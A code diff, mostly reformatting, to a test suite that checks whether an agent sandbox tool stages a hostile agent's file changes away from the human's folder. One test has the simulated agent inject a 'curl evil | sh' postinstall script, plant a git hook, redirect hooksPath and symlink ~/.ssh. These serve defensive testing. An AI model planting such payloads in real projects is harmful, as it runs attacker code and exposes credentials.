@@ -55,11 +55,15 @@ describe('review shares: staging', () => {
     agent = human.newAgent();
     src = `${human.home}/proj`;
     tgt = `/home/${agent}/proj`;
-    human.run(['bash', '-c', [
-      `mkdir -p ${src}/sub && cd ${src} && git init -q .`,
-      'echo hello > a.txt && echo bye > del.txt && echo move > ren.txt && echo "echo hi" > script.sh && echo x > sub/x',
-      `printf '{ "name": "p", "scripts": { "test": "true" } }\\n' > package.json && chmod 600 a.txt`,
-    ].join(' && ')]);
+    human.run([
+      'bash',
+      '-c',
+      [
+        `mkdir -p ${src}/sub && cd ${src} && git init -q .`,
+        'echo hello > a.txt && echo bye > del.txt && echo move > ren.txt && echo "echo hi" > script.sh && echo x > sub/x',
+        `printf '{ "name": "p", "scripts": { "test": "true" } }\\n' > package.json && chmod 600 a.txt`,
+      ].join(' && '),
+    ]);
     const add = human.au(['mount', 'add', '--review', '-a', agent, src]);
     assert.equal(add.status, 0, said(add));
     const entry = readdirSync(`${REVIEW_ROOT}/${agent}`)[0] ?? '';
@@ -74,10 +78,15 @@ describe('review shares: staging', () => {
     rmSync(`${REVIEW_ROOT}/${agent}`, { recursive: true, force: true });
   });
 
-  test('au mount add --review: recorded with its key, listed as [review], the staging directory the human\'s, no ACL on SRC', () => {
+  test("au mount add --review: recorded with its key, listed as [review], the staging directory the human's, no ACL on SRC", () => {
     assert.match(human.au(['mount', 'list', '-a', agent]).stdout, new RegExp(`^${src} -> ${tgt} \\[review\\]$`, 'm'));
     assert.match(readFileSync(`${human.home}/.config/agent-as-unix-user.toml`, 'utf8'), new RegExp(`review = "${key}"`));
-    for (const [path, uid, mode] of [[REVIEW_ROOT, 0, 0o711], [`${REVIEW_ROOT}/${agent}`, 0, 0o711], [stage, human.uid, 0o700], [`${stage}/upper`, human.uid, 0o700]] as const) {
+    for (const [path, uid, mode] of [
+      [REVIEW_ROOT, 0, 0o711],
+      [`${REVIEW_ROOT}/${agent}`, 0, 0o711],
+      [stage, human.uid, 0o700],
+      [`${stage}/upper`, human.uid, 0o700],
+    ] as const) {
       const st = lstatSync(path);
       assert.ok(st.isDirectory(), path);
       assert.deepEqual([st.uid, st.mode & 0o7777], [uid, mode], path);
@@ -90,14 +99,20 @@ describe('review shares: staging', () => {
 
   test("the hostile agent's writes are staged: the human's folder is byte-for-byte unchanged, no ACL; the next run sees them", () => {
     const before = treeHash(src);
-    const r = inRun([
-      'echo more >> a.txt', 'echo new > new.txt', 'rm del.txt', 'mv ren.txt renamed.txt', 'chmod +x script.sh',
-      'mkdir -p .git/hooks && printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
-      'git config core.hooksPath /tmp/evil-hooks',
-      `sed -i 's/"test": "true"/"test": "true", "postinstall": "curl evil | sh"/' package.json`,
-      `ln -s ${human.home}/.ssh sshlink`,
-      'git status --porcelain >/dev/null && echo done',
-    ].join(' && '));
+    const r = inRun(
+      [
+        'echo more >> a.txt',
+        'echo new > new.txt',
+        'rm del.txt',
+        'mv ren.txt renamed.txt',
+        'chmod +x script.sh',
+        'mkdir -p .git/hooks && printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
+        'git config core.hooksPath /tmp/evil-hooks',
+        `sed -i 's/"test": "true"/"test": "true", "postinstall": "curl evil | sh"/' package.json`,
+        `ln -s ${human.home}/.ssh sshlink`,
+        'git status --porcelain >/dev/null && echo done',
+      ].join(' && '),
+    );
     assert.equal(r.status, 0, said(r));
     assert.match(r.stdout, /done/);
     assert.equal(treeHash(src), before, "the human's folder changed");
@@ -106,17 +121,24 @@ describe('review shares: staging', () => {
     const staged = lstatSync(`${stage}/upper/.git/hooks/pre-commit`);
     assert.deepEqual([staged.uid, staged.mode & 0o111], [human.uid, 0o111]);
     assert.ok(lstatSync(`${stage}/upper/del.txt`).isCharacterDevice(), 'a deletion is a whiteout in upper');
-    const next = inRun('cat a.txt; test -e del.txt || echo del-gone; cat renamed.txt; readlink sshlink; git config core.hooksPath; grep -c postinstall package.json');
+    const next = inRun(
+      'cat a.txt; test -e del.txt || echo del-gone; cat renamed.txt; readlink sshlink; git config core.hooksPath; grep -c postinstall package.json',
+    );
     assert.equal(next.status, 0, said(next));
     assert.equal(next.stdout, `hello\nmore\ndel-gone\nmove\n${human.home}/.ssh\n/tmp/evil-hooks\n1\n`);
   });
 
   test('--lockdown from the review share: its staged view, read-only unless --rw-cwd, and still staged', () => {
     const before = treeHash(src);
-    const ro = human.au(['run', '--lockdown', '-a', agent, '--', 'bash', '-c', 'cat a.txt; touch x 2>/dev/null && echo wrote || echo read-only'], { cwd: src });
+    const ro = human.au(
+      ['run', '--lockdown', '-a', agent, '--', 'bash', '-c', 'cat a.txt; touch x 2>/dev/null && echo wrote || echo read-only'],
+      { cwd: src },
+    );
     assert.equal(ro.status, 0, said(ro));
     assert.equal(ro.stdout, 'hello\nmore\nread-only\n');
-    const rw = human.au(['run', '--lockdown', '--rw-cwd', '-a', agent, '--', 'bash', '-c', 'echo lock > from-lockdown && echo wrote'], { cwd: src });
+    const rw = human.au(['run', '--lockdown', '--rw-cwd', '-a', agent, '--', 'bash', '-c', 'echo lock > from-lockdown && echo wrote'], {
+      cwd: src,
+    });
     assert.equal(rw.status, 0, said(rw));
     assert.ok(existsSync(`${stage}/upper/from-lockdown`), 'staged');
     assert.equal(treeHash(src), before);
@@ -132,7 +154,30 @@ describe('review shares: staging', () => {
       'echo probed',
     ].join('; ');
     // Another run, holding the share (and P1 holding STAGE's fd) while this one probes.
-    const holder = background(['runuser', '-u', human.name, '--', 'env', '-i', ...Object.entries(human.env()).map(([k, v]) => `${k}=${v}`), process.execPath, join(packageForHumans(), 'bin', 'au'), 'run', '-a', agent, '-d', tgt, '--', 'bash', '-c', 'echo holding; exec sleep 60'], children, human.home);
+    const holder = background(
+      [
+        'runuser',
+        '-u',
+        human.name,
+        '--',
+        'env',
+        '-i',
+        ...Object.entries(human.env()).map(([k, v]) => `${k}=${v}`),
+        process.execPath,
+        join(packageForHumans(), 'bin', 'au'),
+        'run',
+        '-a',
+        agent,
+        '-d',
+        tgt,
+        '--',
+        'bash',
+        '-c',
+        'echo holding; exec sleep 60',
+      ],
+      children,
+      human.home,
+    );
     const deadline = Date.now() + 30_000;
     while (!holder.output().includes('holding') && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
     assert.match(holder.output(), /holding/, 'the holding run did not start');
@@ -143,7 +188,15 @@ describe('review shares: staging', () => {
       // From outside any run, as the agent's uid: the holding run's processes, by /proc.
       const pids = must(['pgrep', '-u', agent]).trim().split('\n');
       assert.ok(pids.length > 0);
-      const outside = sh(['runuser', '-u', agent, '--', 'bash', '-c', `for p in ${pids.join(' ')}; do ls /proc/$p/root${stage} 2>/dev/null && echo "reached via $p/root"; ls /proc/$p/fd 2>/dev/null | while read fd; do ls /proc/$p/fd/$fd/upper 2>/dev/null && echo "reached via $p/fd/$fd"; done; done; ls ${stage} 2>/dev/null && echo reached; echo probed`]);
+      const outside = sh([
+        'runuser',
+        '-u',
+        agent,
+        '--',
+        'bash',
+        '-c',
+        `for p in ${pids.join(' ')}; do ls /proc/$p/root${stage} 2>/dev/null && echo "reached via $p/root"; ls /proc/$p/fd 2>/dev/null | while read fd; do ls /proc/$p/fd/$fd/upper 2>/dev/null && echo "reached via $p/fd/$fd"; done; done; ls ${stage} 2>/dev/null && echo reached; echo probed`,
+      ]);
       assert.equal(outside.stdout.trim(), 'probed', said(outside));
       // Nor can the human remove the share's staging directory from under the run.
       const config = readFileSync(`${human.home}/.config/agent-as-unix-user.toml`, 'utf8');
@@ -157,7 +210,7 @@ describe('review shares: staging', () => {
     }
   });
 
-  test('a symlink planted at the share target, a KEY with ../, another human\'s KEY: the entrypoint refuses', () => {
+  test("a symlink planted at the share target, a KEY with ../, another human's KEY: the entrypoint refuses", () => {
     // Planted while no run had the share mounted (the agent owns its home).
     const planted = sh(['runuser', '-u', agent, '--', 'bash', '-c', `rmdir ${tgt} && ln -s ${stage}/upper ${tgt}`]);
     assert.equal(planted.status, 0, said(planted));
@@ -187,7 +240,7 @@ describe('review shares: staging', () => {
     assert.doesNotMatch(theirs.stdout, /hello/);
   });
 
-  test('a STAGE swapped for a symlink or for a colleague\'s directory is refused, and au mount remove does not follow it', () => {
+  test("a STAGE swapped for a symlink or for a colleague's directory is refused, and au mount remove does not follow it", () => {
     const aside = `${stage}.aside`;
     const decoy = `${colleague!.home}/decoy`;
     renameSync(stage, aside);
@@ -238,7 +291,7 @@ describe('review shares: staging', () => {
     assert.ok(existsSync(stage), 'nothing removed on refusal');
     const gone = human.au(['delete', '-H', '-y', '--discard-changes', '-a', agent]);
     assert.equal(gone.status, 0, said(gone));
-    assert.ok(!existsSync(`${REVIEW_ROOT}/${agent}`), 'the agent\'s review directory is gone');
+    assert.ok(!existsSync(`${REVIEW_ROOT}/${agent}`), "the agent's review directory is gone");
     assert.equal(acls(src), '', 'no ACL on the source, ever');
   });
 });
